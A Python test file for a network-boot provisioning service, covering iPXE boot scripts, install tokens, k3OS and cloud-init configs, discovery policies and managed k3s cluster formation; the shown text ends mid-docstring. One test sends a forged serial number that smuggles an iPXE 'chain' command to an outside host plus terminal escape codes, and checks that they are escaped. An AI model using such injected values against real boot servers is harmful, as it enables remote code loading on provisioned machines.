"""A machine's whole life over HTTP, the way a device and an operator drive it.

boot request → install script (token) → config with the token → progress events → register
→ next boot is local; plus discovery policies, reinstall and managed-cluster formation.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import shlex
from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest
import yaml

from netboot.inventory.base import Batch
from netboot.inventory.sqlite import SqliteStore
from netboot.model import Machine
from tests.conftest import BASE, Env, EnvFactory, boot, call, install_token
from tests.held_store import held_writer, writes_waiting

MAC = "52:54:00:12:34:56"
HEXHYP = "52-54-00-12-34-56"
UUID = "4c4c4544-0042-3510-8052-b3c04f4e3132"


def kernel_line(script: str) -> str:
    lines = [line for line in script.splitlines() if line.startswith("kernel ")]
    assert len(lines) == 1, script
    return lines[0]


async def state(env: Env, mac: str = MAC) -> str:
    out: str = (await env.get(f"/api/v1/machines/{mac}"))["state"]
    return out


async def kinds(env: Env, mac: str = MAC) -> list[str]:
    return [e["kind"] for e in await env.get(f"/api/v1/machines/{mac}/events")]


async def device_event(env: Env, token: str, kind: str, mac: str = HEXHYP,
                       status: int = 201) -> Any:
    r = await call(env, "POST", f"/api/v1/machines/{mac}/events",
                   json_body={"kind": kind, "message": f"{kind} from the installer"},
                   headers={"Authorization": f"Bearer {token}"}, admin=False)
    assert r.status == status, (r.status, r.text)
    return r.json()


async def register(env: Env, token: str, address: str, mac: str = MAC,
                   status: int = 200, machine_id: str = "abc") -> Any:
    r = await call(env, "POST", "/api/v1/register",
                   json_body={"mac": mac, "token": token, "hostname": "whatever",
                              "addresses": [address, "fe80::1"], "machine_id": machine_id},
                   admin=False)
    assert r.status == status, (r.status, r.text)
    return r.json()


def k3os(text: str) -> dict[str, Any]:
    doc: dict[str, Any] = yaml.safe_load(text)
    return doc


# --- the whole state machine -------------------------------------------------------------------


async def test_one_machine_through_the_whole_state_machine(env: Env) -> None:
    await env.seed()
    await env.post("/api/v1/machines", {"mac": "52-54-00-12-34-56", "hostname": "edge-1"},
                   status=201)
    assert await state(env) == "enrolled"

    # Firmware: DHCP pointed iPXE at /boot.ipxe, which chains to /ipxe with its settings.
    bootstrap = await env.get("/boot.ipxe")
    assert f"{BASE}/ipxe?mac=${{netX/mac:hexhyp}}" in bootstrap
    script = await boot(env, HEXHYP, uuid=UUID, platform="efi", serial="SER1",
                        manufacturer="QEMU", product="Standard PC")
    assert await state(env) == "booting"
    kernel = kernel_line(script)
    token = install_token(script)
    config_url = f"{BASE}/config/{HEXHYP}?token={token}"
    assert f"k3os.install.config_url={config_url}" in kernel.split()
    assert "k3os.mode=install" in kernel.split()

    # The installer fetches its config with the token from the command line.
    config = k3os(await env.get(config_url.removeprefix(BASE)))
    assert await state(env) == "installing"
    assert config["hostname"] == "edge-1"
    assert config["k3os"]["server_url"] == "https://192.0.2.50:6443"
    assert config["k3os"]["token"] == "k3s-secret-token"
    assert config["k3os"]["labels"] == {"site": "lab"}
    assert config["k3os"]["k3s_args"] == ["agent", "--node-name", "edge-1"]
    command = config["run_cmd"][0]
    assert f"{BASE}/api/v1/register" in command
    shlex.split(command)  # a well-formed shell command

    await device_event(env, token, "installing")
    assert await state(env) == "installing"
    await device_event(env, token, "installed")
    assert await state(env) == "installed"

    # Installed but not yet registered: the next network boot already goes to disk.
    assert (await boot(env, HEXHYP)).rstrip().endswith("exit")

    registered = await register(env, token, "192.0.2.101")
    assert registered["state"] == "registered"
    assert registered["ipv4"] == "192.0.2.101"
    assert "token_hash" not in registered

    local = await boot(env, HEXHYP)
    assert local.rstrip().splitlines()[-1] == "exit"
    assert "kernel" not in local
    assert await state(env) == "registered"

    events = await kinds(env)
    expected = ["enrolled", "install-plan", "config", "installing", "installed", "local-boot",
                "registered", "local-boot"]
    assert events == expected
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["arch"] == "x86_64"
    assert machine["firmware"] == "ipxe"


async def test_events_are_recorded_in_stage_order(env: Env) -> None:
    """install-plan, config, installing, installed, registered, local-boot: in that order."""
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    await env.get(f"/config/{HEXHYP}?token={token}")
    await device_event(env, token, "installing")
    await device_event(env, token, "installed")
    await register(env, token, "192.0.2.101")
    await boot(env, MAC)
    events = await env.get(f"/api/v1/machines/{MAC}/events")
    order = [e["kind"] for e in events]
    assert order == ["enrolled", "install-plan", "config", "installing", "installed",
                     "registered", "local-boot"]
    times = [e["time"] for e in events]
    assert times == sorted(times)
    assert events[1]["data"]["via"] == "http"


async def test_install_token_scope(env: Env) -> None:
    """The token opens this machine's config and events only, and only until it expires."""
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    await env.post("/api/v1/machines", {"mac": "52:54:00:12:34:57"}, status=201)
    token = install_token(await boot(env, MAC))
    other = install_token(await boot(env, "52:54:00:12:34:57"))
    # Not another machine's config, events or registration.
    await env.get(f"/config/52-54-00-12-34-57?token={token}", status=401)
    await device_event(env, token, "installing", mac="52-54-00-12-34-57", status=401)
    await register(env, token, "192.0.2.9", mac="52:54:00:12:34:57", status=401)
    assert await state(env, "52:54:00:12:34:57") == "booting"
    # Expired: the config, events and registration all refuse it.
    machine = await env.service.store.machine_by("mac", MAC)
    assert machine is not None
    await env.service.store.update_machine(dataclasses.replace(machine, token_expires=1.0))
    r = await call(env, "GET", f"/config/{HEXHYP}?token={token}", admin=False)
    assert r.status == 401
    assert b"k3s-secret-token" not in r.body
    await device_event(env, token, "installed", status=401)
    await register(env, token, "192.0.2.101", status=401)
    assert await state(env) == "booting"
    await env.get(f"/config/52-54-00-12-34-57?token={other}", status=200)


async def test_failed_install_holds_until_reinstall(env: Env) -> None:
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    await device_event(env, token, "failed")
    assert await state(env) == "failed"
    held = await boot(env, MAC)
    assert "kernel" not in held
    assert f"chain --autofree --replace {BASE}/boot.ipxe" in held
    r = await call(env, "POST", f"/api/v1/machines/{MAC}/reinstall")
    assert r.status == 200
    assert "kernel " in await boot(env, MAC)


async def test_reinstall_brings_an_installed_machine_back_to_install(env: Env) -> None:
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    old = install_token(await boot(env, MAC))
    await env.get(f"/config/{HEXHYP}?token={old}")
    await device_event(env, old, "installed")
    await register(env, old, "192.0.2.101")
    assert (await boot(env, MAC)).rstrip().endswith("exit")

    r = await call(env, "POST", f"/api/v1/machines/{HEXHYP}/reinstall")
    assert r.status == 200
    assert r.json()["state"] == "reinstall"
    # The old install token is void as soon as reinstall is asked.
    await env.get(f"/config/{HEXHYP}?token={old}", status=401)
    script = await boot(env, MAC)
    new = install_token(script)
    assert new != old
    assert await state(env) == "booting"
    await env.get(f"/config/{HEXHYP}?token={new}")
    await device_event(env, new, "installed")
    await register(env, new, "192.0.2.101")
    assert (await boot(env, MAC)).rstrip().endswith("exit")
    events = await kinds(env)
    assert events.index("reinstall") < len(events) - 1 - events[::-1].index("install-plan")


# --- discovery ---------------------------------------------------------------------------------


FACTS = {"uuid": UUID.upper(), "serial": "SER-42", "manufacturer": "Dell Inc.",
         "product": "PowerEdge R240", "asset": "A-1", "platform": "pcbios"}


async def test_discovery_ignore_records_the_machine_and_exits(env: Env) -> None:
    script = await boot(env, HEXHYP, **FACTS)
    assert script.rstrip().endswith("exit")
    assert "kernel" not in script
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["state"] == "discovered"
    assert machine["uuid"] == UUID
    assert machine["serial"] == "SER-42"
    assert machine["arch"] == "x86_64"
    assert machine["facts"]["manufacturer"] == "Dell Inc."
    assert machine["facts"]["product"] == "PowerEdge R240"
    assert machine["facts"]["platform"] == "pcbios"
    assert await kinds(env) == ["discovered"]


async def test_control_characters_a_stranger_sends_are_kept_escaped(
        make_env: EnvFactory) -> None:
    """Anyone may send ``/ipxe?mac=…&serial=…``: the serial and asset tag become the
    discovered machine's identity, the other strings its facts, and the API, the dashboard,
    ``netboot machines show`` and site templates write them out. A line break or an ESC in
    them forged lines of an operator's terminal or of a script rendered with
    ``machine.serial``; they are kept escaped, the platform bounded like the others
    (s36-attack)."""
    env = await make_env("discovery:\n  policy: hold\n")
    await env.seed()
    await boot(env, HEXHYP, serial="AB\nchain http://198.51.100.9/x\x1b[2J",
               asset="\x07ta\u2028g", product="P\r\nQ", manufacturer="Dell Inc.",
               platform="efi\nchain http://198.51.100.9/" + "p" * 300)
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["serial"] == "AB\\x0achain http://198.51.100.9/x\\x1b[2J"
    assert machine["asset"] == "\\x07ta\\u2028g"
    assert machine["facts"]["product"] == "P\\x0d\\x0aQ"
    assert machine["facts"]["manufacturer"] == "Dell Inc."  # printable: as it came
    platform = machine["facts"]["platform"]
    assert platform.startswith("efi\\x0achain http://198.51.100.9/pp") and len(platform) == 128
    strings = [machine["serial"], machine["asset"], *machine["facts"].values()]
    assert all(text.isprintable() for text in strings), strings


async def test_discovery_hold_then_approve_then_install(make_env: EnvFactory) -> None:
    env = await make_env("discovery:\n  policy: hold\n  hold_retry_seconds: 20\n")
    await env.seed()
    script = await boot(env, HEXHYP, **FACTS)
    lines = script.splitlines()
    assert "sleep 20" in lines
    assert lines[-1] == f"chain --autofree --replace {BASE}/boot.ipxe"
    assert "kernel" not in script
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["state"] == "discovered"
    assert (machine["uuid"], machine["serial"], machine["arch"]) == (UUID, "SER-42", "x86_64")
    assert machine["facts"]["manufacturer"] == "Dell Inc."
    assert machine["facts"]["product"] == "PowerEdge R240"
    # Still held on the next try; facts are kept.
    await boot(env, HEXHYP, arch="x86_64")
    again = await env.get(f"/api/v1/machines/{MAC}")
    assert again["state"] == "discovered"
    assert again["facts"]["product"] == "PowerEdge R240"

    r = await call(env, "POST", f"/api/v1/machines/{HEXHYP}/approve",
                   json_body={"cluster": "edge", "role": "server", "hostname": "edge-srv-1"})
    assert r.status == 200, r.text
    assert (r.json()["state"], r.json()["cluster"], r.json()["role"]) == ("enrolled", "edge",
                                                                          "server")
    script = await boot(env, HEXHYP)
    token = install_token(script)
    config = k3os(await env.get(f"/config/{HEXHYP}?token={token}"))
    assert config["hostname"] == "edge-srv-1"
    assert config["k3os"]["k3s_args"][0] == "server"
    # The second held try adds no event: one 'hold' says it (a held machine retries forever).
    assert await kinds(env) == ["discovered", "hold", "enrolled", "install-plan", "config"]


AUTO = """discovery:
  policy: auto
  rules:
    - selector: {product: ["X"]}
      cluster: edge
      role: agent
      profile: k3os
      hostname_template: "line3-{mac_suffix}"
      trust_firmware_strings: true
"""


async def test_discovery_auto_rules_assign_cluster_role_profile_hostname(
        make_env: EnvFactory) -> None:
    env = await make_env(AUTO)
    await env.seed(role="server")  # the seeded group's role must not win over the rule's
    script = await boot(env, HEXHYP, product="X", serial="S1")
    assert "kernel " in script
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert (machine["state"], machine["cluster"], machine["role"], machine["profile"],
            machine["hostname"]) == ("booting", "edge", "agent", "k3os", "line3-123456")
    token = install_token(script)
    config = k3os(await env.get(f"/config/{HEXHYP}?token={token}"))
    assert config["hostname"] == "line3-123456"
    assert config["k3os"]["k3s_args"][0] == "agent"
    assert await kinds(env) == ["discovered", "enrolled", "install-plan", "config"]

    # No rule matches: ignored (policy auto never installs a machine no rule selects).
    other = await boot(env, "52:54:00:aa:bb:cc", product="Y")
    assert other.rstrip().endswith("exit")
    assert "kernel" not in other
    assert (await env.get("/api/v1/machines/52:54:00:aa:bb:cc"))["state"] == "discovered"


async def test_discovery_auto_hostnames_stay_unique(make_env: EnvFactory) -> None:
    env = await make_env(AUTO)
    await env.seed()
    await env.post("/api/v1/machines", {"mac": "aa:bb:cc:00:00:01", "hostname": "line3-123456"},
                   status=201)
    await boot(env, HEXHYP, product="x")  # selector values match case-insensitively
    name = (await env.get(f"/api/v1/machines/{MAC}"))["hostname"]
    assert name.startswith("line3-123456") and name != "line3-123456"


# --- managed cluster formation ------------------------------------------------------------------


async def test_managed_cluster_first_server_inits_and_others_join_it(env: Env) -> None:
    await env.seed(server_url="managed")
    macs = {"srv1": "52:54:00:00:01:01", "srv2": "52:54:00:00:01:02",
            "agent": "52:54:00:00:01:03"}
    for name, mac in macs.items():
        await env.post("/api/v1/machines", {"mac": mac, "hostname": name, "cluster": "edge",
                                            "role": "agent" if name == "agent" else "server"},
                       status=201)
    managed = await env.service.store.get_cluster("edge")
    assert managed is not None and managed.token

    async def install(name: str) -> tuple[dict[str, Any], str]:
        mac = macs[name]
        token = install_token(await boot(env, mac))
        hexhyp = mac.replace(":", "-")
        return k3os(await env.get(f"/config/{hexhyp}?token={token}")), token

    first, token1 = await install("srv1")
    assert "server_url" not in first["k3os"]
    assert first["k3os"]["k3s_args"][:2] == ["server", "--cluster-init"]
    assert first["k3os"]["token"] == managed.token
    # The first server's config stays the same when fetched again (idempotent decision).
    again = k3os(await env.get(f"/config/52-54-00-00-01-01?token={token1}"))
    assert again["k3os"]["k3s_args"][:2] == ["server", "--cluster-init"]
    await register(env, token1, "192.0.2.101", mac=macs["srv1"])

    second, _ = await install("srv2")
    assert second["k3os"]["server_url"] == "https://192.0.2.101:6443"
    assert "--cluster-init" not in second["k3os"]["k3s_args"]
    assert second["k3os"]["k3s_args"][0] == "server"
    assert second["k3os"]["token"] == managed.token
    agent, _ = await install("agent")
    assert agent["k3os"]["server_url"] == "https://192.0.2.101:6443"
    assert agent["k3os"]["k3s_args"][0] == "agent"
    assert "--cluster-init" not in agent["k3os"]["k3s_args"]
    assert agent["k3os"]["labels"] == {"site": "lab"}


async def test_agent_before_its_server_waits_then_installs_by_itself(env: Env) -> None:
    """An agent powered on before its cluster's first server is held in the retry loop, and
    installs on its own next retry once the server registered, joining the server's address."""
    await env.seed(server_url="managed")
    agent, server = "52:54:00:00:02:01", "52:54:00:00:02:02"
    await env.post("/api/v1/machines", {"mac": agent, "hostname": "agent-1", "cluster": "edge",
                                        "role": "agent"}, status=201)
    await env.post("/api/v1/machines", {"mac": server, "hostname": "server-1",
                                        "cluster": "edge", "role": "server"}, status=201)

    held = await boot(env, agent)
    assert "kernel" not in held and "first server to register" in held
    # The hold script sleeps and chains the bootstrap again: iPXE asks /ipxe once more.
    assert "sleep 15" in held and f"chain --autofree --replace {BASE}/boot.ipxe" in held
    assert await state(env, agent) == "enrolled"
    assert "first server to register" in (await boot(env, agent))  # still waiting, one event
    assert (await kinds(env, agent)).count("hold") == 1
    explained = await env.get(f"/api/v1/machines/{agent}/explain")
    assert explained["decision"] == "hold" and "edge's first server" in explained["reason"]

    script = await boot(env, server)
    token = install_token(script)
    config = k3os(await env.get(f"/config/{server.replace(':', '-')}?token={token}"))
    assert config["k3os"]["k3s_args"][:2] == ["server", "--cluster-init"]
    assert "server_url" not in config["k3os"]
    await device_event(env, token, "installed", mac=server.replace(":", "-"))
    await register(env, token, "192.0.2.60", mac=server)
    assert (await env.get(f"/api/v1/machines/{server}"))["ipv4"] == "192.0.2.60"
    # A replay cannot move the address agents join (the token is spent): not without the
    # machine-id its registration reported (with it, within the hour, it is taken as the
    # device whose lease changed: tests/test_enroll.py, s38-journey).
    await register(env, token, "192.0.2.66", mac=server, status=409, machine_id="not-its")
    assert (await env.get(f"/api/v1/machines/{server}"))["ipv4"] == "192.0.2.60"

    retry = await boot(env, agent)  # the held agent's next retry, no power cycle
    agent_token = install_token(retry)
    agent_config = k3os(await env.get(f"/config/{agent.replace(':', '-')}?token={agent_token}"))
    assert agent_config["k3os"]["server_url"] == "https://192.0.2.60:6443"
    assert agent_config["k3os"]["k3s_args"][0] == "agent"
    assert "--cluster-init" not in agent_config["k3os"]["k3s_args"]


async def test_configured_endpoint_lets_agents_install_before_any_server(env: Env) -> None:
    await env.seed(server_url="managed")
    r = await call(env, "PUT", "/api/v1/clusters/edge",
                   json_body={"server_url": "managed", "endpoint": "k8s.example:7443"})
    assert r.status == 200, r.text
    await env.post("/api/v1/machines", {"mac": MAC, "cluster": "edge", "role": "agent"},
                   status=201)
    token = install_token(await boot(env, MAC))
    config = k3os(await env.get(f"/config/{HEXHYP}?token={token}"))
    assert config["k3os"]["server_url"] == "https://k8s.example:7443"


# --- cloud-init profile ---------------------------------------------------------------------


async def test_cloud_init_machine_flow(env: Env) -> None:
    await env.seed()
    await env.post("/api/v1/profiles", {"name": "ubuntu", "kernel": "vmlinuz",
                                        "initrds": ["initrd.img"],
                                        "config_template": "cloud-init"}, status=201)
    await env.post("/api/v1/machines", {"mac": MAC, "profile": "ubuntu", "hostname": "u1"},
                   status=201)
    script = await boot(env, MAC)
    token = install_token(script)
    seed = f"{BASE}/nocloud/{HEXHYP}/{token}/"
    assert f"ds=nocloud;s={seed}" in kernel_line(script).split()
    user_text = await env.get(f"/nocloud/{HEXHYP}/{token}/user-data")
    assert user_text.startswith("#cloud-config\n")
    user = yaml.safe_load(user_text)
    k3s = yaml.safe_load(user["write_files"][0]["content"])
    assert (k3s["server"], k3s["token"], k3s["node-label"]) == (
        "https://192.0.2.50:6443", "k3s-secret-token", ["site=lab"])
    assert any(f"{BASE}/api/v1/register" in part for cmd in user["runcmd"] for part in cmd)
    assert any(token in part for cmd in user["runcmd"] for part in cmd)
    await device_event(env, token, "installed")
    await register(env, token, "192.0.2.77")
    assert (await boot(env, MAC)).rstrip().endswith("exit")
    assert await kinds(env) == ["enrolled", "install-plan", "config", "installed",
                                "registered", "local-boot"]


async def test_custom_profile_cmdline_is_one_line_with_the_token(env: Env) -> None:
    await env.seed(cmdline="console=ttyS0\n  k3os.install.config_url={{ config_url }}\n"
                           "  extra=1\n")
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    script = await boot(env, MAC)
    kernel = kernel_line(script)
    token = install_token(script)
    assert f"k3os.install.config_url={BASE}/config/{HEXHYP}?token={token}" in kernel.split()
    assert kernel.endswith("extra=1")


async def test_undefined_variable_in_profile_cmdline_is_a_500(env: Env) -> None:
    await env.seed(cmdline="console=ttyS0 x={{ nope }}")
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    r = await call(env, "GET", f"/ipxe?mac={HEXHYP}&arch=x86_64", admin=False)
    assert r.status == 500
    assert "nope" in r.json()["error"]


async def test_site_template_render_failure_is_500_not_404(make_env: EnvFactory,
                                                          tmp_path: Any) -> None:
    site = tmp_path / "site"
    (site / "cloud-config" / "cloud-init").mkdir(parents=True)
    (site / "cloud-config" / "k3os.yaml").write_text("hostname: {{ machine.nickname }}\n")
    (site / "cloud-config" / "cloud-init" / "user-data").write_text(
        "#cloud-config\nhostname: {{ missing_var }}\n")
    env = await make_env(f"templates:\n  dir: {site}\n")
    await env.seed()
    await env.post("/api/v1/profiles", {"name": "ubuntu", "kernel": "vmlinuz",
                                        "config_template": "cloud-init"}, status=201)
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    await env.post("/api/v1/machines", {"mac": "52:54:00:12:34:57", "profile": "ubuntu"},
                   status=201)
    token = install_token(await boot(env, MAC))
    r = await call(env, "GET", f"/config/{HEXHYP}?token={token}", admin=False)
    assert r.status == 500
    assert r.headers["content-type"].startswith("application/json")
    assert "nickname" in r.json()["error"]
    token2 = install_token(await boot(env, "52:54:00:12:34:57"))
    r = await call(env, "GET", f"/nocloud/52-54-00-12-34-57/{token2}/user-data", admin=False)
    assert r.status == 500
    assert "missing_var" in r.json()["error"]
    # A failed render is not a fetched config: the machine has not moved on.
    assert await state(env) == "booting"
    # Each is its machine's "render failed" event, naming what failed and its file, as an
    # install script's is (Content._told, the five render paths' one way; s42-review).
    await env.service.enroller.recorder.flush()
    for mac, what, name, file in (
            (MAC, "k3OS config", "nickname", site / "cloud-config" / "k3os.yaml"),
            ("52:54:00:12:34:57", "cloud-init user-data", "missing_var",
             site / "cloud-config" / "cloud-init" / "user-data")):
        told = [str(e["message"]) for e in await env.get(f"/api/v1/machines/{mac}/events")
                if e["kind"] == "render failed"]
        assert len(told) == 1 and what in told[0] and name in told[0], told
        assert f"template file {file}" in told[0], told


async def test_explain_does_not_claim_cluster_init(env: Env) -> None:
    """explain is read-only: asking about a server must not make it the cluster-init node."""
    await env.seed(server_url="managed")
    first, second = "52:54:00:00:01:01", "52:54:00:00:01:02"
    for mac in (first, second):
        await env.post("/api/v1/machines", {"mac": mac, "cluster": "edge", "role": "server",
                                            "profile": "k3os"}, status=201)
    explained = await env.get(f"/api/v1/machines/{second}/explain")
    assert explained["decision"] == "install"
    token = install_token(await boot(env, first))
    config = k3os(await env.get(f"/config/52-54-00-00-01-01?token={token}"))
    assert config["k3os"]["k3s_args"][:2] == ["server", "--cluster-init"]
    assert "server_url" not in config["k3os"]


async def test_bad_hostname_template_in_rules_stops_start_up(make_env: EnvFactory) -> None:
    import pytest

    from netboot.errors import ConfigError

    with pytest.raises(ConfigError) as info:
        await make_env(AUTO.replace("line3-{mac_suffix}", "line3-{rack}"))
    assert "hostname_template" in str(info.value)


async def test_group_with_bad_hostname_template_is_400(env: Env) -> None:
    r = await call(env, "POST", "/api/v1/groups",
                   json_body={"name": "g", "selector": {"product": ["X"]},
                              "hostname_template": "n-{nope}"})
    assert r.status == 400, r.text
    assert r.json()["field"] == "hostname_template"


async def test_install_tokens_are_not_logged(make_env: EnvFactory, tmp_path: Any,
                                             caplog: Any) -> None:
    site = tmp_path / "site"
    (site / "cloud-config" / "cloud-init").mkdir(parents=True)
    (site / "cloud-config" / "k3os.yaml").write_text("hostname: {{ oops }}\n")
    (site / "cloud-config" / "cloud-init" / "user-data").write_text("#cloud-config\n{{ oops }}\n")
    env = await make_env(f"templates:\n  dir: {site}\n")
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    caplog.set_level("DEBUG")
    for path in (f"/config/{HEXHYP}?token={token}", f"/nocloud/{HEXHYP}/{token}/user-data"):
        r = await call(env, "GET", path, admin=False)
        assert r.status == 500
    assert "render failed" in caplog.text
    assert token not in caplog.text


# --- install tokens: the attack chains of a host on the provisioning network ----------------


async def test_a_script_request_mid_install_neither_replaces_the_token_nor_restarts(
        env: Env) -> None:
    """An unauthenticated /ipxe for an installing machine from the address its script went
    to (the device itself rebooting) gets the same install and the same token; the real
    installer's reports and registration still succeed."""
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    await env.get(f"/config/{HEXHYP}?token={token}")
    assert await state(env) == "installing"
    for _ in range(3):
        assert install_token(await boot(env, MAC, product="whatever")) == token
    assert await state(env) == "installing"  # a request does not move it back to booting
    assert (await kinds(env)).count("install-plan") == 2  # the first, then one "again"
    await device_event(env, token, "installed")
    await register(env, token, "192.0.2.101")
    assert await state(env) == "registered"


async def script_from(env: Env, source: str, mac: str = MAC) -> str:
    """``GET /ipxe`` for ``mac`` sent from ``source`` (another loopback address: the test
    server listens on 127.0.0.1, and all of 127.0.0.0/8 reaches it)."""
    import aiohttp

    connector = aiohttp.TCPConnector(local_addr=(source, 0))
    async with aiohttp.ClientSession(connector=connector) as http, http.get(
            f"http://{env.client.host}:{env.client.port}/ipxe?mac={mac}&arch=x86_64") as r:
        assert r.status == 200
        return await r.text()


async def test_an_install_token_is_served_again_only_to_the_address_it_went_to(
        env: Env) -> None:
    """Anyone on the VLAN can ask /ipxe with a listed MAC: mid-install, another address is
    held without the token (and told why), never given a new one; the device at its own
    address still gets its token, and its installer goes on. A device whose address really
    changed is moved on by an operator reinstall."""
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await script_from(env, "127.0.0.2"))
    await env.get(f"/config/{HEXHYP}?token={token}")
    for _ in range(2):
        held = await script_from(env, "127.0.0.3")
        assert token not in held and "kernel" not in held, held
        assert "another address" in held and f"netboot machines reinstall {MAC}" in held
    events = await env.get(f"/api/v1/machines/{MAC}/events")
    withheld = [e for e in events if e["kind"] == "token withheld"]
    assert len(withheld) == 1, events  # said once, however often it asks
    assert withheld[0]["data"]["peer"] == "127.0.0.3"
    assert "served to 127.0.0.2" in withheld[0]["message"]
    assert "reinstall" in withheld[0]["message"]
    # The device itself, at the address it booted with: the same install, the same token.
    assert install_token(await script_from(env, "127.0.0.2")) == token
    assert await state(env) == "installing"
    await device_event(env, token, "installed")
    # The same device back with a new address after a reinstall: a new token, to it.
    r = await call(env, "POST", f"/api/v1/machines/{MAC}/reinstall")
    assert r.status == 200
    fresh = install_token(await script_from(env, "127.0.0.3"))
    assert fresh != token
    assert install_token(await script_from(env, "127.0.0.3")) == fresh
    assert "kernel" not in await script_from(env, "127.0.0.2")


async def test_a_spent_token_fetches_nothing_posts_nothing_registers_nothing(env: Env) -> None:
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    await device_event(env, token, "installed")
    # Installed: its config (with the join token) is no longer served, by state.
    r = await call(env, "GET", f"/config/{HEXHYP}?token={token}", admin=False)
    assert r.status == 409 and "installed" in r.json()["error"]
    assert b"k3s-secret-token" not in r.body
    await register(env, token, "192.0.2.101")
    # Registered: the config, the NoCloud seed, events and a replayed registration all refuse
    # it, and the registered address stays where it is.
    for path in (f"/config/{HEXHYP}?token={token}", f"/nocloud/{HEXHYP}/{token}/user-data"):
        r = await call(env, "GET", path, admin=False)
        assert r.status == 409 and r.json()["state"] == "registered", (path, r.text)
        assert b"k3s-secret-token" not in r.body
    await device_event(env, token, "progress", status=401)
    # (A stranger's: the device's own machine-id from elsewhere within the hour is its
    # device whose lease changed, tests/test_enroll.py.)
    body = await register(env, token, "198.51.100.66", status=409, machine_id="not-its")
    assert body["state"] == "registered" and "reinstall" in body["error"]
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["ipv4"] == "192.0.2.101" and machine["state"] == "registered"
    assert "install_token" not in machine and "token_hash" not in machine
    stored = await env.service.store.machine_by("mac", MAC)
    # The spent install token's copy is gone (the machine token is in its place).
    assert stored is not None and stored.install_token not in (None, token)
    # The next boot of the installed machine goes to disk, no token in it.
    local = await boot(env, MAC)
    assert "token" not in local and local.rstrip().endswith("exit")


async def test_a_registered_machines_token_is_shown_spent(env: Env) -> None:
    # Its expiry stayed after registration spent the token: the API (so the dashboard and
    # `machines show`) showed a token valid until then (s35-user).
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    await device_event(env, token, "installed")
    assert (await env.get(f"/api/v1/machines/{MAC}"))["token_expires"] is not None
    await register(env, token, "192.0.2.101")
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["state"] == "registered" and machine["token_expires"] is None
    stored = await env.service.store.machine_by("mac", MAC)
    assert stored is not None and stored.token_expires is None and stored.token_hash
    # Its replay is still told apart from a stranger's token, by state (without its
    # machine-id: with it, within the hour, it is its device whose lease changed).
    body = await register(env, token, "198.51.100.66", status=409, machine_id="not-its")
    assert body["state"] == "registered"
    await register(env, "not-its-token", "198.51.100.66", status=401)


async def test_a_report_with_its_expired_token_is_told_it_expired(env: Env) -> None:
    # As the config and the registration tell it (401 naming the expiry, a "token expired"
    # event): the report was answered as a request without a token ("send 'Authorization:
    # Bearer <token>'"; over plain HTTP from the network, "use HTTPS"), and nothing was
    # recorded (s33-attack).
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    machine = await env.service.store.machine_by("mac", MAC)
    assert machine is not None
    await env.service.store.update_machine(dataclasses.replace(machine, token_expires=1.0))
    error = await device_event(env, token, "installed", status=401)
    assert "expired" in error["error"] and "reinstall" in error["error"], error
    assert await state(env) == "booting"
    assert (await kinds(env)).count("token expired") == 1
    await device_event(env, token, "installed", status=401)
    assert (await kinds(env)).count("token expired") == 1  # said once


async def test_an_expired_token_is_refused_and_said_once(env: Env) -> None:
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, MAC))
    machine = await env.service.store.machine_by("mac", MAC)
    assert machine is not None and machine.token_expires is not None
    await env.service.store.update_machine(dataclasses.replace(machine, token_expires=1.0))
    for _ in range(2):
        r = await call(env, "GET", f"/config/{HEXHYP}?token={token}", admin=False)
        assert r.status == 401 and "expired" in r.json()["error"]
        assert b"k3s-secret-token" not in r.body
    await register(env, token, "192.0.2.101", status=401)
    # The device asking for its script again is held, not handed a new token.
    held = await boot(env, MAC)
    assert "kernel" not in held and "reinstall" in held
    assert await state(env) == "booting"
    assert (await kinds(env)).count("token expired") == 3  # config (once), register, script
    r = await call(env, "POST", f"/api/v1/machines/{MAC}/reinstall")
    assert r.status == 200
    fresh = install_token(await boot(env, MAC))
    assert fresh != token
    await env.get(f"/config/{HEXHYP}?token={fresh}")


async def test_the_token_lives_as_long_as_the_profile_says(env: Env) -> None:
    await env.seed()
    profile = await env.get("/api/v1/profiles/k3os")
    r = await call(env, "PUT", "/api/v1/profiles/k3os", json_body={**profile,
                                                                   "install_timeout": 600})
    assert r.status == 200, r.text
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    install_token(await boot(env, MAC))
    machine = await env.service.store.machine_by("mac", MAC)
    assert machine is not None and machine.token_expires is not None
    # Issued when the machine went to booting (the same clock reading stamps it).
    assert machine.token_expires == machine.updated + 600
    r = await call(env, "PUT", "/api/v1/profiles/k3os", json_body={**profile,
                                                                   "install_timeout": True})
    assert r.status == 400 and r.json()["field"] == "install_timeout"


async def test_an_auto_rule_not_trusted_with_firmware_strings_holds_what_it_matches(
        make_env: EnvFactory) -> None:
    """The issue's chain: ``/ipxe?mac=<any>&product=EdgeBox-3`` from any host auto-enrolled an
